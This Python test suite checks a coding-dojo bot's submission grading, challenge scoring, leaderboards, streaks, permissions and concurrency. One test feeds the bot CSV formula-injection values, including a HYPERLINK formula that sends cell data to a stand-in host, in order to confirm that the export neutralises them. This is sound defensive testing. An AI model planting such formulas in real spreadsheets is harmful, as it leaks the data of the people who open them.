"""Submissions, scoring, challenges and leaderboards on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import select

from bot.core.errors import DojoError, NotAllowed
from bot.core.types import DelayNotice, GradedNotice, Role
from bot.db import Submission

from .conftest import World

PASS = "import torch\nx = 1  # PASS\n"
FAIL = "x = 2  # FAIL\n"


async def setup_cohort(w: World, members: list[str], tz: str = "UTC") -> None:
    coach = w.actor("coach", Role.instructor)
    await w.dojo.create_cohort(coach, "Test cohort", tz=tz, start=w.clock.now().date(),
                               post_time="09:00")
    for m in members:
        await w.dojo.join(w.actor(m))


async def submit_and_grade(w: World, who: str, ex: str, code: str) -> list:
    """Submit and grade only this member's queue (others may be waiting on purpose)."""
    r = await w.dojo.submit(w.actor(who), ex, code)
    assert r.submission_id > 0
    return await w.dojo.grade_pending(member_id=await w.member_id(who))


async def test_lifecycle_stores_code_and_full_result(world: World) -> None:
    await setup_cohort(world, ["ann"])
    r = await world.dojo.submit(world.actor("ann"), "1.1.1", PASS)
    async with world.db.session() as s:
        sub = await s.get(Submission, r.submission_id)
        assert sub.status == "queued" and sub.code == PASS
    events = await world.dojo.grade_pending()
    assert isinstance(events[0], GradedNotice) and events[0].points == 10
    async with world.db.session() as s:
        sub = await s.get(Submission, r.submission_id)
        assert sub.status == "graded" and sub.passed and sub.result["stdout"].startswith("hello")
        assert sub.result["environment"]["torch"] == "fake"


async def test_first_pass_scores_later_passes_score_zero(world: World) -> None:
    await setup_cohort(world, ["ann"])
    ev = await submit_and_grade(world, "ann", "1.1.1", FAIL)
    assert ev[0].points == 0
    ev = await submit_and_grade(world, "ann", "1.1.1", PASS)
    assert ev[0].points == 10 and ev[0].first_pass
    ev = await submit_and_grade(world, "ann", "1.1.1", PASS)
    assert ev[0].points == 0 and not ev[0].first_pass
    _, _, rows = await world.dojo.leaderboard(world.actor("ann"), "all")
    assert [(r.name, r.points) for r in rows] == [("Ann", 10)]


async def test_grader_outage_loses_nothing_and_member_is_told(world: World) -> None:
    await setup_cohort(world, ["ann"])
    world.grader.down = True
    await world.dojo.submit(world.actor("ann"), "1.1.1", PASS)
    events = await world.dojo.grade_pending()
    assert len(events) == 1 and isinstance(events[0], DelayNotice)
    assert await world.dojo.grade_pending(force=True) == []  # still down; told only once
    async with world.db.session() as s:
        sub = (await s.scalars(select(Submission))).one()
        assert sub.status == "queued" and sub.attempts == 2 and "unreachable" in sub.last_error
    world.grader.down = False
    world.clock.advance(timedelta(minutes=10))
    events = await world.dojo.grade_pending()
    assert isinstance(events[0], GradedNotice) and events[0].delayed and events[0].points == 10


async def test_restart_mid_grading_regrades_after_start(world: World, tiny_curriculum) -> None:
    await setup_cohort(world, ["ann"])
    world.grader.block = asyncio.Event()
    await world.dojo.submit(world.actor("ann"), "1.1.1", PASS)
    task = asyncio.create_task(world.dojo.grade_pending())
    for _ in range(200):
        await asyncio.sleep(0.01)
        if world.grader.calls:
            break
    task.cancel()  # the process "dies" while the grader works
    with pytest.raises(asyncio.CancelledError):
        await task
    async with world.db.session() as s:
        assert (await s.scalars(select(Submission.status))).one() == "grading"
    await world.close()

    fresh = World(world.db.url, tiny_curriculum, clock=world.clock)
    try:
        # another process only takes rows whose lease ran out …
        assert await fresh.dojo.recover() == 0
        fresh.clock.advance(timedelta(minutes=11))
        assert await fresh.dojo.recover() == 1
        events = await fresh.dojo.grade_pending()
        assert isinstance(events[0], GradedNotice) and events[0].points == 10
    finally:
        await fresh.close()


async def test_one_grading_per_member_and_queue_limit(world: World) -> None:
    await setup_cohort(world, ["ann", "bob"])
    world.grader.block = asyncio.Event()
    await world.dojo.submit(world.actor("ann"), "1.1.1", PASS)
    await world.dojo.submit(world.actor("ann"), "1.1.2", PASS)
    await world.dojo.submit(world.actor("ann"), "1.2.1", PASS)
    with pytest.raises(DojoError, match="3 submissions waiting"):
        await world.dojo.submit(world.actor("ann"), "1.2.2", PASS)
    task = asyncio.create_task(world.dojo.grade_pending())
    await asyncio.sleep(0.2)
    async with world.db.session() as s:
        statuses = (await s.scalars(select(Submission.status).order_by(Submission.id))).all()
    assert statuses == ["grading", "queued", "queued"]
    # the database itself refuses a second grading row for the member
    assert await world.dojo.queue.claim(1, force=True) is None
    world.grader.block.set()
    events = await task
    assert [e.exercise_id for e in events] == ["1.1.1", "1.1.2", "1.2.1"]


async def test_bad_submissions_are_refused_clearly(world: World) -> None:
    await setup_cohort(world, ["ann"])
    with pytest.raises(DojoError, match="no exercise"):
        await world.dojo.submit(world.actor("ann"), "1.1.9", PASS)
    with pytest.raises(DojoError, match="limit is 64 KB"):
        await world.dojo.submit(world.actor("ann"), "1.1.1", "x = 1\n" * 200_000)
    with pytest.raises(DojoError, match="timed challenge"):
        await world.dojo.submit(world.actor("ann"), "1.4.1", PASS)


async def test_challenge_window_speed_bonus_and_late_policy(world: World) -> None:
    await setup_cohort(world, ["ann", "bob", "cat", "dan"])
    coach = world.actor("coach", Role.instructor)
    with pytest.raises(NotAllowed):
        await world.dojo.open_challenge(world.actor("ann"), "1.4.1")
    start = world.clock.now()
    await world.dojo.open_challenge(coach, "1.4.1", start, timedelta(minutes=60))
    # bob passes first but the grader is down for him; ann passes later and is graded first
    world.clock.advance(timedelta(minutes=5))
    await world.dojo.submit(world.actor("bob"), "1.4.1", PASS)
    world.grader.down = True
    await world.dojo.grade_pending()
    world.grader.down = False
    world.clock.advance(timedelta(minutes=5))
    await submit_and_grade(world, "ann", "1.4.1", PASS)
    world.clock.advance(timedelta(minutes=5))
    await submit_and_grade(world, "cat", "1.4.1", FAIL)
    events = await world.dojo.grade_pending(force=True)  # bob's, after the outage
    assert events and events[0].points == 30
    world.clock.advance(timedelta(minutes=60))  # window closed
    ev = await submit_and_grade(world, "dan", "1.4.1", PASS)
    assert ev[0].late and ev[0].points == 15 and ev[0].bonus == 0
    _, _, rows = await world.dojo.leaderboard(world.actor("ann"), "all")
    # N = 4 members: bob (rank 0, first by pass time) +4, ann +3, dan late 15
    assert [(r.name, r.points) for r in rows] == [("Bob", 34), ("Ann", 33), ("Dan", 15)]


async def test_personal_timer_reveals_prompt_and_ranks_by_time_taken(world: World) -> None:
    await setup_cohort(world, ["ann", "bob"])
    assert not (await world.dojo.challenges.prompt(world.actor("ann"), "1.4.1")).visible
    timer = await world.dojo.start_timer(world.actor("ann"), "1.4.1")
    assert timer.window.closes_at - timer.window.opens_at == timedelta(minutes=60)
    assert timer.prompt.startswith("Full prompt")
    assert (await world.dojo.challenges.prompt(world.actor("ann"), "1.4.1")).visible
    with pytest.raises(DojoError, match="timer started"):
        await world.dojo.start_timer(world.actor("ann"), "1.4.1")
    world.clock.advance(timedelta(minutes=40))
    await world.dojo.start_timer(world.actor("bob"), "1.4.1")
    world.clock.advance(timedelta(minutes=10))
    await submit_and_grade(world, "bob", "1.4.1", PASS)  # 10 min taken
    world.clock.advance(timedelta(minutes=5))
    await submit_and_grade(world, "ann", "1.4.1", PASS)  # 55 min taken, still inside
    _, _, rows = await world.dojo.leaderboard(world.actor("ann"), "all")
    assert [(r.name, r.points) for r in rows] == [("Bob", 32), ("Ann", 31)]
    world.clock.advance(timedelta(minutes=60))
    # once passed, a timer may start again: a practice run that scores nothing
    again = await world.dojo.start_timer(world.actor("bob"), "1.4.1")
    assert again.practice and again.window.opens_at == world.clock.now()


async def test_leaderboard_ties_go_to_who_got_there_first(world: World) -> None:
    await setup_cohort(world, ["ann", "bob", "cat"])
    await submit_and_grade(world, "bob", "1.1.1", PASS)
    world.clock.advance(timedelta(minutes=1))
    await submit_and_grade(world, "ann", "1.1.2", PASS)
    world.clock.advance(timedelta(minutes=1))
    await submit_and_grade(world, "cat", "1.1.1", PASS)
    world.clock.advance(timedelta(minutes=1))
    await submit_and_grade(world, "cat", "1.3.1", PASS)
    _, label, rows = await world.dojo.leaderboard(world.actor("ann"), "week")
    assert label == "week 1"
    assert [(r.rank, r.name, r.points) for r in rows] == [(1, "Cat", 30), (2, "Bob", 10),
                                                         (3, "Ann", 10)]
    # a week later the weekly board starts empty; all-time keeps everything
    world.clock.advance(timedelta(days=7))
    _, label, rows = await world.dojo.leaderboard(world.actor("ann"), "week")
    assert label == "week 2" and rows == []
    _, _, rows = await world.dojo.leaderboard(world.actor("ann"), "all")
    assert len(rows) == 3


async def test_streak_uses_member_zone(world: World) -> None:
    await setup_cohort(world, ["ann"], tz="Europe/Berlin")
    await world.dojo.cohorts.set_member_tz(world.actor("ann"), "America/Los_Angeles")
    # Mon 2026-03-02 08:00 UTC = Mon 00:00 LA; pass at 08:00 UTC and at 07:00 UTC next day
    await submit_and_grade(world, "ann", "1.1.1", PASS)
    world.clock.advance(timedelta(hours=23))  # Tue 07:00 UTC = Mon 23:00 LA: same LA day
    await submit_and_grade(world, "ann", "1.1.2", PASS)
    info = await world.dojo.streak(world.actor("ann"))
    assert info.streak.current == 1 and info.tz == "America/Los_Angeles"
    world.clock.advance(timedelta(hours=2))  # Tue 01:00 LA
    await submit_and_grade(world, "ann", "1.2.1", PASS)
    info = await world.dojo.streak(world.actor("ann"))
    assert info.streak.current == 2 and info.streak.today_passed


async def test_permissions_and_cohort_management(world: World) -> None:
    ann = world.actor("ann")
    with pytest.raises(NotAllowed):
        await world.dojo.create_cohort(ann, "Nope")
    await setup_cohort(world, ["ann"])
    with pytest.raises(DojoError, match="already has a cohort"):
        await world.dojo.create_cohort(world.actor("coach", Role.instructor), "Again")
    with pytest.raises(NotAllowed):
        await world.dojo.pause(ann)
    with pytest.raises(NotAllowed):
        await world.dojo.export_csv(ann)
    await world.dojo.leave(ann)
    info = await world.dojo.cohort_info(ann)
    assert info.members == []
    await world.dojo.join(ann, "Asia/Tokyo")
    info = await world.dojo.cohort_info(ann)
    assert info.members == [("Ann", "Asia/Tokyo")]
    with pytest.raises(ValueError):
        await world.dojo.join(ann, "Not/AZone")


async def test_pause_and_resume_shift_the_schedule_and_keep_streaks(world: World) -> None:
    coach = world.actor("coach", Role.instructor)
    await setup_cohort(world, ["ann"])
    for ex in ("1.1.1", "1.1.2", "1.2.1"):  # days 1-3
        await submit_and_grade(world, "ann", ex, PASS)
        world.clock.advance(timedelta(days=1))
    world.clock.advance(timedelta(days=-1))  # back on day 3
    c = await world.dojo.pause(coach)
    world.clock.advance(timedelta(days=3))
    info = await world.dojo.cohort_info(coach)
    assert info.paused and info.day == 3
    assert (await world.dojo.streak(world.actor("ann"))).streak.current == 3
    c = await world.dojo.resume(coach)
    assert c.paused_days == 3 and c.day == 3
    ev = await submit_and_grade(world, "ann", "1.2.2", PASS)
    assert ev[0].streak == 4  # the three paused days cost nothing
    st = (await world.dojo.streak(world.actor("ann"))).streak
    assert st.current == 4 and st.freezes == 0


async def test_export_csv(world: World) -> None:
    await setup_cohort(world, ["ann"])
    await submit_and_grade(world, "ann", "1.1.1", PASS)
    await submit_and_grade(world, "ann", "1.1.1", FAIL)
    name, data = await world.dojo.export_csv(world.actor("coach", Role.instructor))
    lines = data.decode().splitlines()
    assert name == "test-cohort-submissions.csv"
    assert lines[0].startswith("submission,user_id,member,exercise,status,result")
    assert lines[1].split(",")[:9] == ["1", "ann", "Ann", "1.1.1", "graded", "passed", "10",
                                       "10", "10"]
    assert lines[2].split(",")[8] == "0"


async def test_two_processes_grade_each_submission_once_one_at_a_time(
    world: World, tiny_curriculum
) -> None:
    """Two bot processes sweep the same queue: every submission is graded exactly
    once and a member never has two gradings running (the database decides)."""
    await setup_cohort(world, ["ann", "bob"])
    for ex in ("1.1.1", "1.1.2", "1.2.1"):
        await world.dojo.submit(world.actor("ann"), ex, PASS)
        await world.dojo.submit(world.actor("bob"), ex, PASS)
    running: dict[str, int] = {}
    peak: dict[str, int] = {}

    class SlowGrader(type(world.grader)):  # type: ignore[misc]
        async def grade(self, exercise_id: str, code: str, progress: Any = None) -> dict:
            who = "ann" if "ann" in self.owner_of(code) else "bob"
            running[who] = running.get(who, 0) + 1
            peak[who] = max(peak.get(who, 0), running[who])
            await asyncio.sleep(0.05)
            running[who] -= 1
            return await super().grade(exercise_id, code)

        @staticmethod
        def owner_of(code: str) -> str:
            return code

    # tag each submission's code with its owner so the grader can tell them apart
    async with world.db.session() as s:
        from bot.db import Member
        for sub in (await s.scalars(select(Submission))).all():
            m = await s.get(Member, sub.member_id)
            sub.code = f"# {m.user_id}\n" + sub.code
    other = World(world.db.url, tiny_curriculum, clock=world.clock, grader=SlowGrader())
    world.dojo.grader = SlowGrader()
    try:
        a, b = await asyncio.gather(world.dojo.grade_pending(), other.dojo.grade_pending())
        graded = sorted(e.submission_id for e in a + b if isinstance(e, GradedNotice))
        assert graded == [1, 2, 3, 4, 5, 6]
        assert peak == {"ann": 1, "bob": 1}
    finally:
        await other.close()


async def test_export_cells_cannot_become_formulas(world: World) -> None:
    await setup_cohort(world, [])
    evil = world.actor("eve")
    evil = type(evil)(evil.platform, evil.channel_id, "=cmd", '=HYPERLINK("https://x"&A1,"open")')
    await world.dojo.join(evil)
    await world.dojo.submit(evil, "1.1.1", PASS)
    await world.dojo.grade_pending()
    _, data = await world.dojo.export_csv(world.actor("coach", Role.instructor))
    import csv
    import io

    rows = list(csv.reader(io.StringIO(data.decode())))
    cells = [c for row in rows[1:] for c in row]
    assert "'=HYPERLINK(\"https://x\"&A1,\"open\")" in cells and "'=cmd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_delivery_loops_racing_claim_each_notice_once(world: World, db_url: str) -> None:
    """Two processes' delivery loops read the same undelivered notices; one
    claims them all between the other's read and its claim: the other gets
    none of them, and every notice is claimed once (PostgreSQL: SQLite has one
    process, whose transactions never interleave)."""
    from bot.core.notices import NoticeService

    if db_url.startswith("sqlite"):
        pytest.skip("one process on SQLite: its claims cannot interleave")
    members = [f"m{i}" for i in range(6)]
    await setup_cohort(world, members)
    for who in members:
        await submit_and_grade(world, who, "1.1.1", PASS)
    ours = world.dojo.notices
    first: list = []

    class Overtaken(NoticeService):
        async def _take(self, s, ids, now):  # type: ignore[no-untyped-def]
            first.extend(await ours.claim("test"))  # the other process, just now
            return await super()._take(s, ids, now)

    late = await Overtaken(ours.ctx, instance="another-process").claim("test")
    assert late == []
    assert sorted(e.submission_id for e in first) == sorted(
        {e.submission_id for e in first}) and len(first) == len(members)
